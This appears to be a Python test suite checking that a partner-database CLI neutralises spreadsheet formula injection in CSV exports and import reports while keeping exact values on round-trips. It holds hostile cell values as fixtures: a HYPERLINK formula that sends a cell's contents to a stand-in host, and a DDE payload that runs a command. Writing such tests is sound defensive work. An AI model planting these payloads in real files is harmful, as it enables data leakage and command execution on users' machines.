"""`partnerbook export partners` against spreadsheet formula injection: every CSV cell
opens as text, `--raw` writes cells as they are, and export -> import round-trips."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import psycopg
import pytest
from starlette.testclient import TestClient

from app.domain.formula_cells import FORMULA_STARTS
from app.infra.database import Database
from tests.schema.partner_ops import create
from tests.test_export import env, other_db  # noqa: F401  (fixtures)
from tests.test_import import query, run, summary

HOSTILE_NAME = '=HYPERLINK("http://x.example/?"&A2,"Click")'
HOSTILE_STREETS = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'=already", "=1+1"]
"""Tab and CR do not survive the registry's trimming; the read model is edited for them."""


def hostile_partners(client: TestClient) -> None:
    create(client, kind="COMPANY", name=HOSTILE_NAME, phone="+32 2 555 12 34", countryCode="BE")
    for i, street in enumerate(HOSTILE_STREETS):
        create(client, kind="PERSON", name=f"Person {i}", street=street, city="-Ghent")


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def values(db: Database) -> set[tuple[Any, ...]]:
    return set(query(db, "SELECT own_name, street, city, phone FROM partners"))


def test_every_cell_of_an_export_opens_as_text(
    env: Database,  # noqa: F811
    client: TestClient,
    tmp_path: Path,
) -> None:
    hostile_partners(client)
    out = tmp_path / "partners.csv"
    run("export", "partners", "--output", str(out))
    rows = cells(out)
    assert len(rows) == 1 + len(HOSTILE_STREETS)
    unsafe = [(r["id"], k, v) for r in rows for k, v in r.items() if v.startswith(FORMULA_STARTS)]
    assert unsafe == []
    assert {r["name"] for r in rows} >= {"'" + HOSTILE_NAME}
    assert {r["street"] for r in rows} >= {"'" + s for s in HOSTILE_STREETS}
    assert {r["phone"] for r in rows} >= {"'+3225551234"}


def test_raw_writes_cells_as_they_are_and_jsonl_is_never_changed(
    env: Database,  # noqa: F811
    client: TestClient,
    tmp_path: Path,
) -> None:
    hostile_partners(client)
    raw = tmp_path / "raw.csv"
    run("export", "partners", "--raw", "--output", str(raw))
    assert {r["name"] for r in cells(raw)} >= {HOSTILE_NAME}
    assert {r["street"] for r in cells(raw)} >= set(HOSTILE_STREETS)
    lines = tmp_path / "partners.jsonl"
    run("export", "partners", "--format", "jsonl", "--output", str(lines))
    exported = [json.loads(line) for line in lines.read_text().splitlines()]
    assert {r["street"] for r in exported} >= set(HOSTILE_STREETS)


def test_tab_and_carriage_return_cells_get_a_quote(
    env: Database,  # noqa: F811
    client: TestClient,
    tmp_path: Path,
) -> None:
    create(client, kind="PERSON", name="Tab", street="tab")
    create(client, kind="PERSON", name="Return", street="return")
    with psycopg.connect(env.conninfo()) as conn:  # the API trims them away
        conn.execute("UPDATE partners SET street = E'\\tx' WHERE own_name = 'Tab'")
        conn.execute("UPDATE partners SET street = E'\\rx' WHERE own_name = 'Return'")
    out = tmp_path / "partners.csv"
    run("export", "partners", "--output", str(out))
    assert {r["street"] for r in cells(out)} == {"'\tx", "'\rx"}


def test_export_then_import_gives_back_the_exact_values(
    env: Database,  # noqa: F811
    other_db: Database,  # noqa: F811
    client: TestClient,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    hostile_partners(client)
    out = tmp_path / "partners.csv"
    run("export", "partners", "--output", str(out))
    monkeypatch.setenv("PARTNERBOOK_DATABASE_URL", other_db.dsn)
    counts = summary(run("import", "partners", str(out)).output)
    assert (counts["created"], counts["rejected"]) == (1 + len(HOSTILE_STREETS), 0)
    assert values(other_db) == values(env)
    assert {v[1] for v in values(other_db)} >= set(HOSTILE_STREETS)
    assert HOSTILE_NAME in {v[0] for v in values(other_db)}


def test_import_partners_reads_an_exported_row_as_its_value(
    env: Database,  # noqa: F811
    client: TestClient,
    tmp_path: Path,
) -> None:
    from tests.conftest import gql

    hostile_partners(client)
    out = tmp_path / "partners.csv"
    run("export", "partners", "--output", str(out))
    row = next(r for r in cells(out) if r["street"] == "''=already")
    imported = gql(
        client,
        "mutation($input: ImportPartnersInput!) { importPartners(input: $input) { "
        "unchanged partners { name address { street } } userErrors { message } } }",
        {
            "input": {
                "rows": [{"externalId": row["id"], "name": row["name"], "street": row["street"]}]
            }
        },
    )["importPartners"]
    assert imported["userErrors"] == [] and imported["unchanged"] == 1
    assert imported["partners"][0]["address"]["street"] == "'=already"


def test_an_import_report_quotes_the_file_without_formulas(
    env: Database,  # noqa: F811
    tmp_path: Path,
) -> None:
    from tests.test_import import write

    path = write(
        tmp_path / "hostile.csv",
        ["name", "is_company", '=HYPERLINK("http://x.example")'],
        [["Acme", "=1+1", "x"]],
    )
    report = tmp_path / "report.csv"
    run("import", "partners", str(path), "--report", str(report))
    rows = list(csv.reader(report.open(newline="", encoding="utf-8")))[1:]
    assert rows and [c for r in rows for c in r if c.startswith(FORMULA_STARTS)] == []
    assert ["1", "WARNING", '\'=HYPERLINK("http://x.example")', "unknown column: ignored"] in rows
